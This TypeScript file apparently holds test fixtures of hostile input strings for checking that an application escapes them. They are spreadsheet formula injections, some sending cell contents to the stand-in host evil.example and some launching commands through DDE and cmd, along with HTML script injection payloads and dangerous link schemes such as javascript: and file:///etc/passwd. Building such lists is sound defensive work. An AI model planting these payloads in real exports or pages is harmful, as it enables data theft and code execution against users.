/** Texts that hurt where a program takes them for something else than text. */

/** What Excel, Sheets, LibreOffice or a CSV import may take for a formula, a link or a command. */
export const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"클릭")',
  '=IMPORTXML("https://evil.example/?"&A1,"//a")',
  '=IMAGE("https://evil.example/"&B2)',
  '=WEBSERVICE("https://evil.example")',
  "=cmd|' /C calc'!A0",
  '+cmd|/C calc!A0',
  '-2+3+cmd|/C calc!A0',
  '@SUM(1+1)*cmd|/C calc!A0',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '=DDE("cmd";"/C calc";"x")',
  '＝1+1',
  '0123',
  '1/2',
  '2026. 1. 1.',
  'TRUE',
  '",=1+1,"',
  'a\r\n=1+1',
];

/** What a page takes for markup; each would set `window.hurt`. */
export const MARKUP: readonly string[] = [
  '<img src=x onerror="window.hurt=1">',
  '<script>window.hurt=1</script>',
  '</script><script>window.hurt=1</script>',
  '"><svg onload="window.hurt=1">',
  "' autofocus onfocus='window.hurt=1' x='",
  '<iframe srcdoc="<script>parent.hurt=1</script>">',
  '&lt;img src=x onerror=window.hurt=1&gt;',
  '{{constructor.constructor("window.hurt=1")()}}',
  '<math><mtext></p><img src onerror=window.hurt=1>',
  '\u202e\u2066시장\u2069',
  'https://evil.example/<b>굵게</b>',
];

/** Addresses that no link may have. */
export const ADDRESSES: readonly string[] = [
  'javascript:window.hurt=1',
  'JaVaScRiPt:window.hurt=1',
  ' javascript:window.hurt=1',
  'data:text/html,<script>window.hurt=1</script>',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
];
